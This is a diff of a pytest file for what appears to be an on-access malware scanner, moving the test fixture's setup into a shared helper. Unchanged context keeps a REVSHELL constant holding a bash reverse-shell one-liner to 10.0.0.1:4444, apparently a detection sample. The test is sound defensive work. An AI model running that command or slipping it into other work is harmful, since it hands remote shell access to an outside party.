@@ -13,46 +13,16 @@ import time
 
 import pytest
 
-from agentlib import EICAR_RULE, Agent, crafted, default_content, wait_events
+from agentlib import EICAR_RULE, crafted, onaccess_box, wait_events
 from conftest import EICAR
-from userlib import own_tmpfs
 
 REVSHELL = b"#!/bin/sh\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n"
 
 
 @pytest.fixture
 def box(ward, tmp_path):
-    if os.geteuid() != 0:
-        pytest.fail("the on-access tests run as root (make check runs them so)", pytrace=False)
-    with own_tmpfs(tmp_path / "mnt", "64m") as mnt:
-        yield from _box(ward, tmp_path, mnt)
-
-
-def _box(ward, tmp_path, mnt):
-    rel, v1 = default_content(ward, tmp_path)
-    agents = []
-
-    class Box:
-        pass
-
-    b = Box()
-    b.mnt, b.ward, b.tmp, b.rel = str(mnt), ward, tmp_path, rel
-
-    def agent(extra=(), fault=False, env_vars=None, paths=None):
-        d = tmp_path / ("agent%d" % len(agents))
-        d.mkdir()
-        lines = ["onaccess:", "  paths: [%s]" % ", ".join(paths or [str(mnt)])] + list(extra)
-        a = Agent(ward, d, [rel[1]], fault=fault, extra=lines, env=env_vars)
-        agents.append(a)
-        a.start()
-        p = a.apply(v1)
-        assert p.returncode == 0, p.stderr
-        return a
-
-    b.agent = agent
-    yield b
-    for a in agents:
-        a.stop()
+    with onaccess_box(ward, tmp_path, "on-access") as b:
+        yield b
 
 
 def write_exec(path, data):
